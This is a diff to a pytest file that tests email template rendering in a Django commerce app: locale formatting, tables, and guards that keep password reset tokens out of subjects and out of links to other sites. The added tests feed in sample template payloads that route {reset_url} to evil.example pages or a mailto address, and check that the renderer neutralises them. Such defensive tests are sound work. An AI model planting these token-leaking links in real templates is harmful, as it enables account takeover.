@@ -19,6 +19,7 @@ from commerce.mail.template_values import format_instant, pack_values
 pytestmark = pytest.mark.django_db
 
 EITHER_OR = (
+    "single",
     "by_staff",
     "at_once",
     "only_if_paid",
@@ -109,7 +110,7 @@ def test_amounts_dates_and_instants_are_in_the_form_of_the_reader() -> None:
     yen = pack_values({"amount": Money(-1500, "JPY")}, "en")
     assert render_mail(own, yen, locale="en").text.strip() == "−1,500\u00a0JPY"
     german = render_mail(own, told, locale="de", time_zone="Europe/Berlin").text
-    assert german.startswith("€1.234.567,89 31.01.2026, 13:30\u00a0CET 31.01.2026")
+    assert german.startswith("1.234.567,89\u00a0€ 31.01.2026, 13:30\u00a0CET 31.01.2026")
 
 
 @pytest.mark.parametrize(
@@ -117,6 +118,13 @@ def test_amounts_dates_and_instants_are_in_the_form_of_the_reader() -> None:
 )
 def test_instants_name_their_zone(zone: str, name: str) -> None:
     assert format_instant(sample_values("new_sign_in")["when"], zone).endswith(f"\u00a0{name}")
+
+
+def test_lines_with_tabs_are_a_table() -> None:
+    mail = made("price_changed")
+    assert mail.html.count("<tr>") == 2
+    assert "<td>€10.00 → €12.00</td>" in mail.html
+    assert "Backup\texample.com" in mail.text
 
 
 def test_what_a_mail_cannot_tell_of_is_a_defect_at_once() -> None:
@@ -147,6 +155,55 @@ def test_staff_write_their_own_words_and_take_them_back() -> None:
     assert made("welcome").subject == "Welcome to Client Portal"
     with pytest.raises(BusinessError):
         reset_template(event="welcome", locale="en", ctx=Context(now(), SYSTEM))
+
+
+RESET = "https://localhost:8443/client/reset-password/TOKEN"
+
+
+def reset_mail(**over: str) -> RenderedMail:
+    save(event="password_reset", **over)
+    template = rendering.template_for("password_reset", "en")
+    assert template is not None
+    values = sample_values("password_reset") | {"reset_url": RESET}
+    return render_mail(template, rendering.company_variables() | values, locale="en")
+
+
+@pytest.mark.parametrize("subject", ["{reset_url}", "Yours:{reset_url}#", "a {reset_url} b"])
+def test_no_link_stands_in_a_subject(subject: str) -> None:
+    """It is kept and shown to staff: who may write templates read how to become anybody there."""
+    assert "TOKEN" not in reset_mail(subject=subject).subject
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<a href="https://evil.example/?{reset_url}">Choose a password</a>',
+        '<a href="https://evil.example/?x= {reset_url}">Choose a password</a>',
+        "<a href=https://evil.example/{reset_url}>Choose a password</a>",
+        "<a href='mailto:eve@evil.example?body={reset_url}'>Choose a password</a>",
+        "<p>https://evil.example/?{reset_url}</p>",
+    ],
+)
+def test_no_link_is_told_to_somebody_elses_page(html: str) -> None:
+    """Who may write templates had it sent to a page of his own by whoever followed it."""
+    mail = reset_mail(html=html, text="")
+    for part in (mail.html.split("<main>")[1], mail.text):
+        assert not re.search(r"evil[^\s<]*TOKEN", part)
+        assert not re.search(r'href="[^"]*evil[^"]*TOKEN', part)
+
+
+def test_nor_is_it_in_a_text() -> None:
+    mail = reset_mail(html="", text="https://evil.example/?{reset_url}\n\nReset: {reset_url}")
+    assert f"https://evil.example/? {RESET}" in mail.text
+    assert mail.html.count(f'href="{RESET}"') == 2
+    assert 'href="https://evil' not in mail.html
+
+
+def test_a_link_of_our_own_stays_what_it_is() -> None:
+    html = '<p><a href="{reset_url}">Reset</a> (or {reset_url})</p><p>{reset_url}</p>'
+    body = reset_mail(html=html, text="").html.split("<main>")[1]
+    assert f'<a href="{RESET}">Reset</a>' in body
+    assert f"<p>{RESET}</p>" in body
 
 
 def test_the_text_is_made_from_html_that_staff_wrote() -> None:
